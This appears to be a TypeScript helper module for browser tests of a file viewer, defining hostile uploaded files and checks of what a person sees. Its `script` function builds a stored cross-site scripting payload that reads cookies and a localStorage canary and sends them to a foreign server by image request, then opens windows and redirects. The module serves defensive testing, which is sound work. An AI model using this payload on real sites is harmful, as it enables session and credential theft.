import { expect, type Locator } from '../fixtures.ts';

/** What a person sees of a file in its viewer; rejects where that does not come. */
export type Seen = (viewer: Locator) => Promise<void>;

/** A file that tries something, and what must be seen of it: content, a fallback, or why there is none. */
export interface HostileFile {
  readonly name: string;
  /** Its content; what it asks for is at `far`, a foreign server. */
  readonly bytes: (far: string) => string | Buffer | Promise<string | Buffer>;
  readonly seen: Seen;
}

export const file = (name: string, bytes: HostileFile['bytes'], seen: Seen): HostileFile => ({
  ...{ name, bytes, seen },
});

/** What a script of a file writes to the console, with the cookies that it could read. */
export const mark = 'a stored file ran';

/** A script that leaves every trace it can; `way` tells how it came to run. */
export const script = (far: string, way: string): string =>
  `console.log('${mark} ${way} '+document.cookie);new Image().src='${far}/${way}?'+encodeURIComponent(document.cookie+localStorage.canary);document.title='${mark}';alert('${mark}');window.open('${far}/${way}-window');location='${far}/${way}-left'`;

/** A text inside an attribute or an element of XML. */
export const xml = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;');

/** What content that can be read says. */
export const quiet = 'Quiet words';

export const says =
  (text: string | RegExp): Seen =>
  (viewer) =>
    expect(viewer.getByText(text).first()).toBeVisible();

/** An open text or table of whatever words, read in an encoding. */
export const stored =
  (encoding: string): Seen =>
  (viewer) =>
    expect(viewer.getByLabel('Encoding')).toHaveValue(encoding);

export const noPreview = says('This file has no preview.');
